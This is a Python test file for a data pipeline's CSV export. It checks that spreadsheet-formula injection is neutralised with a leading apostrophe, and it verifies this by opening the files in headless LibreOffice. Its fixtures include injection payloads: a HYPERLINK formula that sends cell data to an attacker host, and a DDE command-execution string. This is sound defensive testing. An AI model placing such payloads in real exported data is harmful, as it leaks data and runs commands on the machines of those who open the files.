"""The CSVs are safe in a spreadsheet: a text cell that would run as a formula is written
as text (a leading apostrophe, OWASP's CSV injection guard); numbers stay numbers; the
Parquet files stay exact. Checked with a real spreadsheet: LibreOffice, headless."""

from __future__ import annotations

import csv
import html
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import duckdb
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from idf_etl.warehouse.export import _csv_expression, export_tables
from idf_etl.warehouse.schema import create_schema
from tests.pipeline.test_pipeline import edit, run

ARMENIA = "/project/migration-socio-economic-development-armenia-georgia"
HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A2,"Details")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=cmd|' /C calc'!A0",
]
FORMULA_CHARS = ("=", "+", "-", "@", "\t", "\r")


def _warehouse(path: Path, titles: list[str]) -> duckdb.DuckDBPyConnection:
    con = duckdb.connect(str(path))
    create_schema(con)
    for n, title in enumerate(titles):
        con.execute(
            """INSERT INTO projects BY NAME SELECT ? AS project_key, ? AS title,
                   ?::DECIMAL(18,2) AS budget_usd, now() AS first_seen,
                   now() AS last_changed, false AS missing_from_site""",
            [f"XX.{n:04d}", title, -5 - n],
        )
    return con


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


def test_a_title_that_would_run_as_a_formula_is_written_as_text(tmp_path):
    con = _warehouse(tmp_path / "w.duckdb", [*HOSTILE, "Plain title", "Kosovo - returns"])
    release = export_tables(con, tmp_path / "release")
    rows = {r["project_key"]: r for r in _csv_rows(release / "csv" / "projects.csv")}
    titles = [rows[f"XX.{n:04d}"]["title"] for n in range(len(HOSTILE) + 2)]
    assert titles[: len(HOSTILE)] == ["'" + t for t in HOSTILE]
    assert titles[len(HOSTILE) :] == ["Plain title", "Kosovo - returns"]  # untouched
    # Numbers are never guarded: a negative budget is a number for programs.
    assert rows["XX.0000"]["budget_usd"] == "-5.00"
    # The Parquet files are exact.
    exact = con.execute(
        "SELECT title FROM read_parquet(?) ORDER BY project_key",
        [str(release / "parquet" / "projects.parquet")],
    ).fetchall()
    assert [t for (t,) in exact][: len(HOSTILE)] == HOSTILE


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=12))
def test_any_text_cell_is_itself_or_itself_marked_as_text(text):
    con = duckdb.connect()
    got = con.execute(
        f"SELECT {_csv_expression('t', 'VARCHAR')} FROM (SELECT ?::VARCHAR AS t)", [text]
    ).fetchone()[0]
    runs = text.lstrip(" \n\x0b\x0c\u00a0").startswith(("=", "+", "-", "@"))
    runs = runs or text.startswith(("\t", "\r"))
    assert got == ("'" + text if runs else text)
    assert not got.startswith(FORMULA_CHARS)


# -- a real spreadsheet -----------------------------------------------------------------


def _soffice() -> str:
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found is None:
        pytest.skip(
            "LibreOffice (soffice) is not installed: `make spreadsheet` installs Debian's "
            "libreoffice-calc-nogui; CI runs it"
        )
    return found


def _open_in_calc(csv_file: Path, out: Path) -> dict[str, tuple[str | None, bool, str]]:
    """The CSV opened by LibreOffice Calc with its default import and saved as xlsx:
    each cell of the first sheet as (type attribute, holds a formula, value)."""
    out.mkdir(exist_ok=True)
    done = subprocess.run(
        [
            _soffice(),
            f"-env:UserInstallation=file://{out / 'profile'}",
            "--headless",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            str(csv_file),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    xlsx = out / (csv_file.stem + ".xlsx")
    assert xlsx.exists(), done.stdout + done.stderr
    with zipfile.ZipFile(xlsx) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        shared = (
            book.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in (book.namelist())
            else ""
        )
    strings = [
        html.unescape(re.sub(r"<[^>]+>", "", s))
        for s in re.findall(r"<si>(.*?)</si>", shared, flags=re.S)
    ]
    cells = {}
    for ref, attrs, body in re.findall(r'<c r="([A-Z]+\d+)"([^>]*)>(.*?)</c>', sheet, re.S):
        kind = m[1] if (m := re.search(r't="(\w+)"', attrs)) else None
        value = m[1] if (m := re.search(r"<v>(.*?)</v>", body, re.S)) else ""
        if kind == "s":
            value = strings[int(value)]
        value = html.unescape(value)
        cells[ref] = (kind, "<f" in body, value)
    return cells


@pytest.mark.slow
def test_libreoffice_runs_an_unguarded_formula_so_the_check_can_fail(tmp_path):
    plain = tmp_path / "plain.csv"
    plain.write_text("title,n\n=1+1,3\n")
    cells = _open_in_calc(plain, tmp_path / "out")
    assert cells["A2"][1], cells  # LibreOffice's default CSV import makes it a formula


@pytest.mark.slow
def test_libreoffice_opens_the_exported_csv_and_runs_no_formula(tmp_path):
    con = _warehouse(tmp_path / "w.duckdb", HOSTILE)
    release = export_tables(con, tmp_path / "release")
    projects = release / "csv" / "projects.csv"
    header = next(csv.reader(projects.open(encoding="utf-8")))
    title = chr(ord("A") + header.index("title"))
    budget = chr(ord("A") + header.index("budget_usd"))

    cells = _open_in_calc(projects, tmp_path / "out")

    assert not [ref for ref, (_k, formula, _v) in cells.items() if formula]
    for row in range(2, len(HOSTILE) + 2):
        kind, _, value = cells[f"{title}{row}"]
        assert kind in ("s", "str", "inlineStr"), (row, cells[f"{title}{row}"])
        assert value.startswith("'") and value[1:].strip() == HOSTILE[row - 2].strip(), value
        # ...and the budget is a number Calc can add up, negative sign and all.
        kind, _, value = cells[f"{budget}{row}"]
        assert kind in (None, "n") and float(value) == -5 - (row - 2)


@pytest.mark.slow
def test_a_title_on_the_site_reaches_the_csv_as_text(demo_site, tmp_path):
    site, base = demo_site
    data = tmp_path / "data"
    title = "Migration for Socio-Economic Development in Armenia and Georgia"
    attack = '=HYPERLINK("http://attacker.example/?leak="&amp;A2,"Details")'
    edit(site, ARMENIA, f"<h1>{title}</h1>", f"<h1>{attack}</h1>")
    proc, summary = run(base, data, check=False)
    assert summary["outcome"] == "success", proc.stderr[-2000:]
    rows = _csv_rows(data / "clean" / "csv" / "projects.csv")
    titles = [r["title"] for r in rows if "HYPERLINK" in r["title"]]
    assert titles == ["'" + attack.replace("&amp;", "&")]
    cells = _open_in_calc(data / "clean" / "csv" / "projects.csv", tmp_path / "out")
    assert not [ref for ref, (_k, formula, _v) in cells.items() if formula]
